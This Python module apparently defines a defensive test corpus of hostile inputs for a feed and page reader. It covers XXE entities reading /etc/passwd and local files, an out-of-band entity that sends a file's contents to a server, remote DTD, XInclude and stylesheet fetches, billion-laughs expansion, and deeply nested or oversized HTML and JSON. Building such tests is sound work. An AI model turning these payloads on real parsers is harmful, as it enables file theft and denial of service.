"""Documents that turn on their reader: XML that calls home or explodes, pages and JSON without bottom or end."""

import json
from collections.abc import Iterator
from itertools import pairwise

from attacks import EITHER, Attack
from attacks.scene import WORDS, Scene
from attacks.ways import calls, court, docket_feed, feed, item, page, rss

_LAUGHS = '<!DOCTYPE rss [<!ENTITY a "lol">' + "".join(
    f'<!ENTITY {name} "' + f"&{before};" * 10 + '">' for before, name in pairwise("abcdefghi")
)


def _external(system: str) -> str:
    return rss(item(f"{WORDS} &x;"), before=f'<!DOCTYPE rss [<!ENTITY x SYSTEM "{system}">]>')


def _parameter(system: str) -> str:
    return rss(item(), before=f'<!DOCTYPE rss [<!ENTITY % x SYSTEM "{system}"> %x; <!ENTITY y "&#37;x;">]>')


def _stealing(scene: Scene) -> str:
    """Out of band: the file's words would stand in the address that is asked for."""
    inner = f"<!ENTITY &#37; send SYSTEM '{scene.inside.url}?%file;'>"
    return rss(
        item(f"{WORDS} &send;"),
        before=f'<!DOCTYPE rss [<!ENTITY % file SYSTEM "{scene.inside.file.as_uri()}">'
        f'<!ENTITY % all "{inner}"> %all; %send;]>',
    )


def _calling_home() -> Iterator[Attack]:
    def addresses(scene: Scene) -> dict[str, str]:
        return {"file": scene.inside.file.as_uri(), "passwd": "file:///etc/passwd", "server": scene.inside.url}

    for place in ("file", "passwd", "server"):
        yield Attack(f"external entity: {place}", feed(lambda s, p=place: _external(addresses(s)[p])), "harmless")
        yield Attack(f"parameter entity: {place}", feed(lambda s, p=place: _parameter(addresses(s)[p])), "harmless")
    yield Attack("entity that sends a file home", feed(_stealing), "harmless")
    yield Attack(
        "DTD to be fetched", feed(lambda s: rss(item(), before=f'<!DOCTYPE rss SYSTEM "{s.inside.url}">')), "harmless"
    )
    yield Attack(
        "DTD to be fetched, public",
        feed(lambda s: rss(item(), before=f'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "{s.inside.url}">')),
        "harmless",
    )
    yield Attack(
        "XInclude",
        feed(
            lambda s: rss(
                item(
                    more='<x:include xmlns:x="http://www.w3.org/2001/XInclude" parse="text" '
                    f'href="{s.inside.file.as_uri()}"/>'
                ),
                channel=f'<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="{s.inside.url}"/>',
            )
        ),
        "harmless",
    )
    yield Attack(
        "stylesheet to be run",
        feed(lambda s: rss(item(), before=f'<?xml-stylesheet type="text/xsl" href="{s.inside.url}"?>')),
        "harmless",
    )
    yield Attack(
        "hub, self, cloud and base inside",
        feed(
            lambda s: rss(
                item(more=f'<enclosure url="{s.inside.url}" type="text/html" length="1"/>'),
                channel=f'<cloud domain="127.0.0.1" port="{s.inside.port}" path="/x" protocol="xml-rpc"/>'
                + "".join(
                    f'<a:link xmlns:a="http://www.w3.org/2005/Atom" rel="{rel}" href="{s.inside.url}"/>'
                    for rel in ("hub", "self", "alternate", "next", "first", "replies")
                ),
            )
        ),
        "harmless",
    )
    yield Attack(
        "docket with an external entity",
        docket_feed(lambda s: _external(s.inside.url)),
        "unreadable",
        "not the Atom feed",
    )
    yield Attack(
        "court with an external entity", court(lambda s: _external(s.inside.url)), "unreadable", "names no case"
    )
    yield Attack("page that loads things", page(_loading), "harmless")
    yield Attack("page that is XML with an entity", page(_xhtml, "application/xhtml+xml"), "harmless")


def _loading(scene: Scene) -> str:
    inside = scene.inside.url
    return (
        f'<html><head><base href="{inside}"><meta http-equiv="refresh" content="0;url={inside}">'
        f'<link rel="stylesheet" href="{inside}"><link rel="canonical" href="{inside}"><script src="{inside}"></script>'
        f'<link rel="alternate" type="application/rss+xml" href="{inside}"></head><body><article><h1>Sharing</h1>'
        f'<p>The company would share…</p><p>{WORDS * 8}</p><img src="{inside}"><iframe src="{inside}"></iframe>'
        f'<object data="{inside}"></object><a href="{inside}" ping="{inside}">more</a></article></body></html>'
    )


def _xhtml(scene: Scene) -> str:
    return (
        f'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "{scene.inside.file.as_uri()}">]>'
        '<html xmlns="http://www.w3.org/1999/xhtml"><body><article><p>The company would share…</p>'
        f"<p>&x; {WORDS * 8}</p></article></body></html>"
    )


def _exploding() -> Iterator[Attack]:
    yield Attack("billion laughs", feed(lambda s: rss(item("&i;"), before=_LAUGHS + "]>")), EITHER)
    yield Attack(
        "quadratic blow-up",
        feed(lambda s: rss(item("&a;" * 40_000), before='<!DOCTYPE rss [<!ENTITY a "' + "a" * 40_000 + '">]>')),
        EITHER,
    )
    yield Attack(
        "entity in itself",
        feed(lambda s: rss(item("&a;"), before='<!DOCTYPE rss [<!ENTITY a "&b;"><!ENTITY b "&a;">]>')),
        "harmless",
    )
    yield Attack(
        "a hundred thousand entities",
        feed(lambda s: rss(item(), before="<!DOCTYPE rss [" + _many('<!ENTITY e%d "x">', s) + "]>")),
        "harmless",
    )
    yield Attack("docket of laughs", docket_feed(lambda s: rss(item("&i;"), before=_LAUGHS + "]>")), EITHER)
    yield Attack("court of laughs", court(lambda s: rss(item("&i;"), before=_LAUGHS + "]>")), EITHER)
    yield Attack("page of laughs", page(lambda s: f"{_LAUGHS}]><html><body><p>&i;</p></body></html>"), "unreadable")


def _many(piece: str, scene: Scene, per: float = 1.0) -> str:
    """As many as fill a document."""
    pieces, size = [], 0
    while size < scene.bounds.heavy * per:
        pieces.append(piece % len(pieces) if "%d" in piece else piece)
        size += len(pieces[-1])
    return "".join(pieces)


def _fill(scene: Scene, piece: str, per: float = 1.0) -> str:
    return piece * int(scene.bounds.heavy * per / len(piece))


def _deep_and_long() -> Iterator[Attack]:
    yield Attack("feed of tags in tags", feed(lambda s: rss(item(_fill(s, "<b>")))), EITHER)
    yield Attack(
        "feed of tags in tags, closed",
        feed(lambda s: rss(item(_fill(s, "<b>", 0.4) + _fill(s, "</b>", 0.4)))),
        EITHER,
    )
    yield Attack("feed of div in div", feed(lambda s: rss(item("<![CDATA[" + _fill(s, "<div>") + "]]>"))), EITHER)
    yield Attack("feed of brackets", feed(lambda s: _fill(s, "<")), EITHER)
    yield Attack("feed of ampersands", feed(lambda s: rss(item(_fill(s, "&")))), EITHER)
    yield Attack("feed of comments", feed(lambda s: rss(item(_fill(s, "<!---->")))), EITHER)
    yield Attack("feed of unclosed CDATA", feed(lambda s: "<rss><channel>" + _fill(s, "<![CDATA[")), "unreadable")
    yield Attack("feed of unclosed DOCTYPEs", feed(lambda s: _fill(s, "<!DOCTYPE [")), "unreadable")
    yield Attack("feed of entity declarations", feed(lambda s: "<!DOCTYPE rss [" + _fill(s, "<!ENTITY ")), "unreadable")
    yield Attack(
        "feed of a hundred thousand entries",
        feed(lambda s: rss(*(item("x", number=n) for n in range(_entries(s))))),
        EITHER,
    )
    yield Attack("feed of empty entries", feed(lambda s: rss(_fill(s, "<item/>"))), "unreadable")
    yield Attack(
        "feed of one attribute",
        feed(lambda s: rss(f'<item a="{_fill(s, "a")}"/>', item())),
        "unreadable",
        "has no words",
    )
    yield Attack("feed of attributes", feed(lambda s: rss("<item " + _many(' a%d="" ', s) + "/>", item())), EITHER)
    yield Attack(
        "feed of namespaces", feed(lambda s: rss("<item " + _many(' xmlns:a%d="x" ', s) + "/>", item())), EITHER
    )
    yield Attack(
        "feed with a title without end",
        feed(lambda s: rss(f"<item><title>{_fill(s, 'a ')}</title></item>")),
        EITHER,
    )
    yield Attack(
        "feed in UTF-7", feed(lambda s: '<?xml version="1.0" encoding="utf-7"?>' + rss(item())[21:]), "harmless"
    )
    yield Attack(
        "feed in a coding that packs",
        feed(lambda s: '<?xml version="1.0" encoding="zlib_codec"?>' + rss(item())[21:]),
        "harmless",
    )
    yield Attack(
        "feed in UTF-16 without end",
        feed(lambda s: b"\xff\xfe" + _fill(s, "<a>", 0.5).encode("utf-16-le")),
        "unreadable",
    )
    yield Attack(
        "docket of tags in tags",
        docket_feed(lambda s: f'<feed xmlns="http://www.w3.org/2005/Atom">{_fill(s, "<a>")}'),
        "unreadable",
    )
    yield Attack(
        "court of tags in tags", court(lambda s: f'<rss version="2.0"><channel>{_fill(s, "<a>")}'), "unreadable"
    )
    yield Attack(
        "court of brackets",
        court(lambda s: rss(f"<item><title>3:23-cv-1 A v. B</title><description>{_fill(s, '[')}</description></item>")),
        "harmless",
    )


def _entries(scene: Scene) -> int:
    return min(100_000, scene.bounds.heavy // 120)


def _pages() -> Iterator[Attack]:
    def html(inner: str) -> str:
        return f"<html><body><article><p>The company would share…</p>{inner}</article></body></html>"

    pages = {
        "div in div": lambda s: html(_fill(s, "<div>")),
        "div in div, closed": lambda s: html(_fill(s, "<div>", 0.4) + WORDS * 8 + _fill(s, "</div>", 0.4)),
        "inline in inline": lambda s: html(_fill(s, "<b><i>")),
        "table in table": lambda s: html(_fill(s, "<table><tr><td>")),
        "list in list": lambda s: html(_fill(s, "<ul><li>")),
        "form in form": lambda s: html(_fill(s, "<a href=x>")),
        "an attribute of a megabyte": lambda s: html(
            f'<p title="{"a" * min(1_000_000, s.bounds.heavy)}">{WORDS * 8}</p>'
        ),
        "a million attributes": lambda s: html(f"<p {_many(' a%d', s)}>{WORDS * 8}</p>"),
        "a million equal attributes": lambda s: html(f"<p {_fill(s, ' a')}>{WORDS * 8}</p>"),
        "paragraphs": lambda s: html(_fill(s, "<p>word ")),
        "one word": lambda s: html("<p>" + _fill(s, "a")),
        "blanks": lambda s: html("<p>" + _fill(s, " ")),
        "breaks": lambda s: html("<p>" + _fill(s, "<br> ")),
        "comments": lambda s: html(_fill(s, "<!--")),
        "brackets": lambda s: _fill(s, "<"),
        "unclosed quotes": lambda s: html(_fill(s, "<a href='")),
        "entities": lambda s: html("<p>" + _fill(s, "&amp;")),
        "scripts": lambda s: html(_fill(s, "<script>")),
        "metas": lambda s: html(_fill(s, '<meta name="date" content="2020">')),
        "noughts": lambda s: "\0" * s.bounds.heavy,
        "html tags": lambda s: _fill(s, "<html lang='"),
        "json-ld in json-ld": lambda s: (
            f'<script type="application/ld+json">{_fill(s, "[")}</script>' + html(f"<p>{WORDS * 8}</p>")
        ),
        "dates": lambda s: html("<p>" + _fill(s, "2020-01-01 ")),
        "links": lambda s: html(_fill(s, "<a href='http://a/b'>c</a> ")),
    }
    for name, body in pages.items():
        yield Attack(f"page of {name}", page(body), EITHER)


def _json() -> Iterator[Attack]:
    def posts(*items: object, **more: object) -> str:
        return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "Blog", "items": items, **more})

    def as_json(body: object) -> object:
        return feed(body, "application/feed+json")

    good = {"id": "1", "title": "Sharing", "content_text": WORDS * 15}
    yield Attack("JSON in JSON", as_json(lambda s: "[" * 100_000), "unreadable", "not JSON")
    yield Attack(
        "JSON in JSON, whole",
        as_json(lambda s: posts(good)[:-1] + ',"x":' + "[" * 40_000 + "]" * 40_000 + "}"),
        "unreadable",
        "not JSON",
    )
    yield Attack("JSON object in object", as_json(lambda s: '{"a":' * (s.bounds.heavy // 5)), "unreadable", "not JSON")
    yield Attack(
        "number of a million digits",
        as_json(lambda s: posts(good)[:-1] + ',"n":' + _fill(s, "9") + "}"),
        "unreadable",
        "not JSON",
    )
    yield Attack(
        "number beyond all", as_json(lambda s: posts({**good, "id": "@"}).replace('"@"', "1e999999999")), "harmless"
    )
    yield Attack(
        "id of a million digits",
        as_json(lambda s: posts({**good, "id": "@"}).replace('"@"', "-" + _fill(s, "1"))),
        "unreadable",
    )
    yield Attack(
        "not a number",
        as_json(lambda s: posts({**good, "id": float("nan"), "date_published": float("inf")})),
        "harmless",
    )
    yield Attack(
        "half a surrogate", as_json(lambda s: posts({**good, "title": "\ud800", "url": "http://\udfff/"})), "harmless"
    )
    yield Attack(
        "a hundred thousand items",
        as_json(lambda s: posts(*({"id": str(n), "content_text": "x"} for n in range(_entries(s))))),
        EITHER,
    )
    yield Attack(
        "a million empty items", as_json(lambda s: posts()[:-2] + "{}," * (s.bounds.heavy // 3) + "{}]}"), "unreadable"
    )
    yield Attack("a million keys", as_json(lambda s: posts(good)[:-1] + _many(',"k%d":0', s) + "}"), "harmless")
    yield Attack("markup in JSON", as_json(lambda s: posts({"id": "1", "content_html": _fill(s, "<div>")})), EITHER)
    yield Attack(
        "hubs and links inside",
        as_json(
            lambda s: posts(
                {**good, "external_url": s.inside.url},
                hubs=[{"type": "WebSub", "url": s.inside.url}],
                feed_url=s.inside.url,
                next_url=s.inside.url,
            )
        ),
        "harmless",
    )
    event = '{"event":{"year":2026,"quarter":3,"conference_date":"2026-10-28T21:00:00+00:00"},"speakers":'
    yield Attack("transcript in transcript", calls(lambda s: event + "[" * 100_000), "unreadable")
    yield Attack("transcript of numbers", calls(lambda s: '{"text":' + _fill(s, "9") + "}"), "unreadable")
    yield Attack(
        "transcript of a million speakers",
        calls(
            lambda s: (
                event
                + "["
                + '{"speaker":{"id":"a","name":"A","title":null},"text":"x"},' * (s.bounds.heavy // 60)
                + "{}]}"
            )
        ),
        EITHER,
    )
    yield Attack("transcript of one word", calls(lambda s: json.dumps({"text": _fill(s, "a")})), EITHER)
    yield Attack(
        "calls that were all held at once",
        calls(
            lambda s: "{}",
            events=lambda s: (
                '{"events":['
                + ",".join(
                    f'{{"year":{year},"quarter":1,"conference_date":"2020-01-01T00:00:00+00:00"}}'
                    for year in range(1980, 2020)
                )
                + "]}"
            ),
        ),
        "unreadable",
    )


ATTACKS = (*_calling_home(), *_exploding(), *_deep_and_long(), *_pages(), *_json())
